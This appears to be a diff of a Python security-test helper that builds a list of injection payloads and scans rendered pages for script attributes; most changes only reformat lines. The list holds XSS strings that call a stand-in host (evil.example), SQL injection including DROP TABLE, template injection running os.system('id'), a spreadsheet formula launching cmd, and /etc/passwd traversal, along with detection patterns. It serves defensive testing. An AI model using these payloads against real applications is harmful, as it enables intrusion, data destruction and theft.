@@ -5,16 +5,18 @@ import itertools
 _EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
 _TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "math", "marquee", "a href=#")
 _CALLS = ("alert(1)", "fetch('//evil.example')", "eval(atob('YWxlcnQoMSk='))", "document.location='//evil.example'")
-_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "vbscript:", "data:text/html;base64,", "&#106;avascript:")
+_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "vbscript:", "data:text/html,", "&#106;avascript:")
 _WRAPS = ("%s", '"><%s', "'><%s", "</textarea>%s", "</title>%s", "-->%s", "]]>%s", "</script>%s")
 _TEMPLATES = (
     "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", '<t t-out="request.env.user"/>', '<t t-call="web.login"/>', "{{request.env.cr}}",
     "%(description)s%n%x", "{0.__class__}", "__import__('os').system('id')",
 )
 _OTHERS = (
-    "' OR 1=1 --", "'; DROP TABLE kefu_complaint; --", "\\'; SELECT pg_sleep(5); --", "\x00\x01\x02", "\u202egnp.exe", "\ufeff\u200b",
-    "=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "Set-Cookie: a=b\r\nX: y", "../../../../etc/passwd",
-    "A" * 20_000, "🙈" * 3000, "<" * 3000, "&lt;script&gt;alert(1)&lt;/script&gt;", "<!--#exec cmd='id'-->", "<?php phpinfo(); ?>",
+    "' OR 1=1 --", "'; DROP TABLE kefu_complaint; --", "\\'; SELECT pg_sleep(5); --", "\x00\x01\x02", "\u202egnp.exe",
+    "\ufeff\u200b", "=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "Set-Cookie: a=b\r\nX: y",
+    "../../../../etc/passwd",
+    "A" * 20_000, "🙈" * 3000, "<" * 3000, "&lt;script&gt;alert(1)&lt;/script&gt;", "<!--#exec cmd='id'-->",
+    "<?php phpinfo(); ?>",
     "[a](javascript:alert(1))", "![x](x\" onerror=\"alert(1))", "@everyone", "<@1>", "&#60;img src=x onerror=alert(1)&#62;",
 )
 
@@ -33,8 +35,14 @@ def payloads():
         for opening, closing in (('<a href="', '">x</a>'), ('<form action="', '"><button>x</button></form>'), ("", ""))
     ]
     attributes = [f'" {event}="{call}" x="' for event, call in itertools.product(_EVENTS, _CALLS)]
-    styles = [f"<style>{rule}</style>" for rule in ("*{display:none}", "@import '//evil.example'", "body{background:url(//evil.example)}")]
-    frames = ['<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=//evil.example">', '<object data="x">', '<embed src="x">']
+    rules = ("*{display:none}", "@import '//evil.example'", "body{background:url(//evil.example)}")
+    styles = [f"<style>{rule}</style>" for rule in rules]
+    frames = [
+        '<base href="//evil.example/">',
+        '<meta http-equiv="refresh" content="0;url=//evil.example">',
+        '<object data="x">',
+        '<embed src="x">',
+    ]
     return list(dict.fromkeys([*handlers, *scripts, *links, *attributes, *styles, *frames, *_TEMPLATES, *_OTHERS]))
 
 
@@ -56,5 +64,6 @@ def _active(page):
         for name, value in element.attrib.items():
             squeezed = "".join(char for char in value if char.isprintable() and not char.isspace()).lower()
             is_link = name in ("href", "src", "action", "formaction", "data", "content")
-            if name.startswith("on") or (is_link and ("script:" in squeezed or "evil.example" in squeezed or "data:text" in squeezed)):
+            is_hostile = any(sign in squeezed for sign in ("script:", "evil.example", "data:text"))
+            if name.startswith("on") or (is_link and is_hostile):
                 yield f"{element.tag} {name}={value}"
